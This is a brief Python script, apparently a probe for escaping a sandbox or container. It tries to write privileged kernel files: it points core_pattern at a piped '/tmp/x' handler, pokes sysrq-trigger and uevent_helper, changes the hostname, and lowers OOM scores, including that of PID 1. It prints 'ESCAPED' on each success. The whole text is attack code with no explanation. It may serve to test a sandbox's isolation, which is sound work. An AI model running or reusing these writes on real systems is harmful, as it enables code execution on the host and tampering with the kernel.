import ctypes, json, os, resource, signal, socket, subprocess, sys, threading, time
V = json.load(open("victim.json"))
def esc(*a): print("ESCAPED", *a, flush=True)
def t(f):
    try: return f()
    except BaseException as e: print("  no:", repr(e)[:100], flush=True)
L = ctypes.CDLL(None, use_errno=True)

for p, v in (("/proc/sys/kernel/core_pattern", "|/tmp/x"), ("/proc/sysrq-trigger", "h"), ("/proc/sys/vm/drop_caches", "1"), ("/proc/sys/kernel/hostname", "x"),
             ("/sys/kernel/uevent_helper", "x"), ("/proc/self/oom_score_adj", "-900"), ("/proc/1/oom_score_adj", "-900")):
    t(lambda: (open(p, "w").write(v), esc("wrote", p)))
